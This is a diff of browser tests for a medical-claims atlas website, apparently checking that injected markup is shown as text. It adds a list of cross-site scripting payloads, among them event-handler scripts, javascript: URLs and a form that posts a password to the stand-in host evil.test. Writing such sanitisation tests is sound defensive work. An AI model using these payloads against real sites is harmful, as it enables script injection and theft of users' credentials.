@@ -43,6 +43,7 @@ def atlas(transactional_db):
         "yes": PublishedClaimFactory(text=free, exact=f"Eleven {words}", terms=[therapy, subtype], study=study),
         "no": PublishedClaimFactory(
             text=closed, exact=f"Twelve {words}", terms=[therapy, subtype], direction="does_not_support",
+            proposition="Pembrolizumab cures triple-negative breast cancer.",
             study_design="phase_3", confirmatory=True,
         ),
         "gap": PublishedClaimFactory(
@@ -68,10 +69,12 @@ def _retracted(claim: Claim) -> Claim:
 def pages(atlas) -> list[str]:
     """Every kind of public page."""
     return [
-        "/", "/about/", "/claims/", "/claims/?level=A&q=pembrolizumab", "/articles/", "/therapies/", "/therapies/?q=key",
-        "/therapies/?all=on", "/subtypes/", "/mechanisms/", "/biomarkers/", "/adverse-events/",
+        "/", "/about/", "/claims/", "/claims/?level=A&q=pembrolizumab", "/articles/",
+        "/therapies/", "/therapies/?q=key", "/therapies/?all=on",
+        "/subtypes/", "/mechanisms/", "/biomarkers/", "/adverse-events/",
         f"/therapies/{atlas['therapy'].slug}/", f"/subtypes/{atlas['subtype'].slug}/",
-        *(f"/claims/{atlas[name].pk}/" for name in ("yes", "no", "gap", "retracted")), f"/claims/{atlas['yes'].pk}/?v=1",
+        *(f"/claims/{atlas[name].pk}/" for name in ("yes", "no", "gap", "retracted")),
+        f"/claims/{atlas['yes'].pk}/?v=1",
         *(f"/articles/{atlas[name].article_id}/" for name in ("yes", "no")), "/accounts/login/",
     ]  # fmt: skip
 
@@ -102,8 +105,8 @@ def test_public_pages_reflow_at_320_pixels(visitors, atlas, accessibility):
 def test_a_reader_without_script_goes_from_home_to_the_words(plain_visitor, atlas):
     plain_visitor.goto("/")
     plain_visitor.get_by_role("link", name="Pembrolizumab").first.click()
-    plain_visitor.get_by_role("link", name=atlas["yes"].proposition).first.click()
-    plain_visitor.get_by_role("link", name=atlas["yes"].article.title or "article").first.click()
+    plain_visitor.locator(".claim-card").get_by_role("link", name=atlas["yes"].proposition).click()
+    plain_visitor.get_by_role("link", name=atlas["yes"].article.title).click()
     plain_visitor.get_by_role("link", name="To its words").first.click()
     assert "#words-" in plain_visitor.url
     mark = plain_visitor.locator("mark").first
@@ -132,15 +135,29 @@ def test_words_and_claim_light_up_together(visitor, atlas):
 XSS = [
     "<script>window.__x=1</script>",
     "<img src=x onerror=window.__x=1>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
     "<svg onload=window.__x=1>",
+    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
+    "<svg><style><img src=x onerror=window.__x=1></style></svg>",
+    "<math><mi//xlink:href='javascript:window.__x=1'>",
+    "<template><img src=x onerror=window.__x=1></template>",
+    "<iframe srcdoc='&lt;script&gt;window.__x=1&lt;/script&gt;'>",
+    "<embed src='//evil.test/x.swf'>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.__x=1'>",
+    "<link rel=stylesheet href='//evil.test/x.css'>",
+    "<style>@import '//evil.test/x.css'</style>",
+    "<p style='background:url(//evil.test/t.gif)'>tracker</p>",
+    "<form action='//evil.test/'><input name=password></form>",
+    "<details open ontoggle=window.__x=1>",
+    "<xss style='display:block' onpointerover=window.__x=1>y</xss>",
+    "<title></title><img src=x onerror=window.__x=1>",
+    "<!--><img src=x onerror=window.__x=1>-->",
     "</title><script>window.__x=1</script>",
     "\"'><script>window.__x=1</script>",
     "javascript:window.__x=1",
     "{{ 7*7 }}{% now 'Y' %}",
     "]]><script>window.__x=1</script>",
     "<a href='javascript:window.__x=1'>x</a>",
-    "<style>*{background:url(https://example.org/x)}</style>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__x=1&gt;'>",
     "\u202e<script>window.__x=1</script>",
 ]
 
@@ -151,10 +168,10 @@ def test_markup_in_sources_stays_text(visitor, transactional_db):
         text=f"Title {XSS[0]}\n\n{lines}",
         snapshot=SnapshotFactory(article=ArticleFactory(source=SourceFactory(full_text=True, name=XSS[1]))),
     )
-    Article.objects.filter(pk=text.snapshot.article_id).update(title=XSS[3], publisher=XSS[4])
+    Article.objects.filter(pk=text.snapshot.article_id).update(title=XSS[-7], publisher=XSS[-6])
     therapy = TermFactory(preferred_name=f"drug {XSS[1]}", slug="drug")
     exact = [f"Line {number} {payload} ends." for number, payload in enumerate(XSS)]
-    claim = PublishedClaimFactory(text=text, exact=exact, terms=[therapy], proposition=XSS[4], note=XSS[0])
+    claim = PublishedClaimFactory(text=text, exact=exact, terms=[therapy], proposition=XSS[-6], note=XSS[0])
     for address in (
         "/", "/claims/", "/articles/", "/therapies/", "/therapies/drug/", f"/claims/{claim.pk}/",
         f"/articles/{claim.article_id}/",
